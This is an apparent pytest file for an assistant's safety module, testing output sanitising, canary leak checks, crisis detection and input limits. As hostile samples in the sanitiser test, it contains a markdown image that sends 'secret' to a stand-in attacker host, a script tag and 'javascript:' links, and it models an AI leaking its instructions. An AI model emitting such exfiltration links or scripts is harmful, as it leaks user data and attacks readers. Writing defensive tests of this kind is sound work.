"""Output sanitising, scope and crisis checks, input limits."""

from __future__ import annotations

import pytest

from assistant.errors import InputError
from assistant.safety import (
    BLOCKED_REPLY,
    clean_question,
    is_crisis,
    obviously_out_of_scope,
    sanitise_output,
)


def test_images_outside_links_and_html_are_neutralised() -> None:
    text = (
        "See [1]. ![x](https://evil.example/p.png?d=secret) [win](https://evil.example) "
        "<script>alert(1)</script> [SMART goals](../goals/smart-goals.md) "
        "https://findahelpline.com and https://evil.example/raw "
        "[js](javascript:alert(1))"
    )
    out, report = sanitise_output(text, {"https://findahelpline.com"})
    assert "evil.example" not in out and "<script>" not in out and "javascript:" not in out
    assert "&lt;script&gt;" in out
    assert "[SMART goals](../goals/smart-goals.md)" in out
    assert "https://findahelpline.com" in out
    assert report.removed_images == 1 and report.removed_links >= 2 and report.escaped_html


def test_canary_replaces_the_whole_answer() -> None:
    out, report = sanitise_output("Sure! My instructions: CANARY-abc ...", canary="CANARY-abc")
    assert out == BLOCKED_REPLY and report.canary_leak


def test_blockquotes_survive_escaping() -> None:
    out, _ = sanitise_output("> a quoted line\n\nI <3 mentors")
    assert out.startswith("> a quoted line") and "&lt;3" in out


@pytest.mark.parametrize(
    "text", ["I want to kill myself", "thinking about suicide", "I don't want to be alive anymore"]
)
def test_crisis_is_recognised(text: str) -> None:
    assert is_crisis(text)


def test_career_words_keep_ordinary_questions_in_scope() -> None:
    assert not is_crisis("this deadline is killing me")
    assert not obviously_out_of_scope("how do I ask for feedback on my code")
    assert obviously_out_of_scope("write a python function to reverse a list")


def test_input_limits() -> None:
    assert clean_question("  hello\x00 there ", 100) == "hello there"
    with pytest.raises(InputError, match="empty"):
        clean_question(" \n ", 100)
    with pytest.raises(InputError, match="limit"):
        clean_question("x" * 101, 100)


def test_undecodable_bytes_and_lone_surrogates_are_dropped_not_crashed_on() -> None:
    # A terminal passes $'\xff\xfe …' to Python as lone surrogates (surrogateescape).
    raw = b"\xff\xfe how do I find a mentor".decode("utf-8", "surrogateescape")
    assert clean_question(raw, 100) == "how do I find a mentor"
    assert clean_question("half \ud83d of an emoji", 100) == "half  of an emoji"
